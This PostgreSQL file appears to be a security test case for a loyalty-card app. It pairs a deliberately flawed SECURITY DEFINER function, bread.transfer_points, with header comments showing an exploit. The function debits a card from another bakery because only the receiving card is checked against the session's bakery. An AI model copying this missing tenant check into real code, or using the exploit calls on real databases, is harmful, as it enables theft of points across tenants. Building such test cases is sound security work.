-- A bakery draws the points of a card of another bakery to its own, because only the card that receives is
-- looked for in the bakery of the session.
-- about: transfer_points, cards
-- as: hf_crumbcard_app
-- exploit: SET app.bakery = '301';
-- exploit: SELECT 'balance ' || bread.transfer_points('C-4001', 'C-3001', 5000) AS done;
-- shows: balance 5007
CREATE FUNCTION bread.transfer_points(p_from text, p_to text, p_points int) RETURNS int
LANGUAGE plpgsql SECURITY DEFINER SET search_path = bread, pg_temp AS $$
DECLARE total int;
BEGIN
  IF p_points <= 0 THEN
    RAISE EXCEPTION 'points must be positive';
  END IF;
  UPDATE bread.cards SET points = points - p_points WHERE card_no = p_from AND points >= p_points;
  IF NOT FOUND THEN
    RAISE EXCEPTION 'not enough points';
  END IF;
  UPDATE bread.cards SET points = points + p_points
  WHERE card_no = p_to AND bakery_id = bread.bakery() RETURNING points INTO STRICT total;
  RETURN total;
END $$;
REVOKE ALL ON FUNCTION bread.transfer_points(text, text, int) FROM PUBLIC;
GRANT EXECUTE ON FUNCTION bread.transfer_points(text, text, int) TO hf_crumbcard_app;
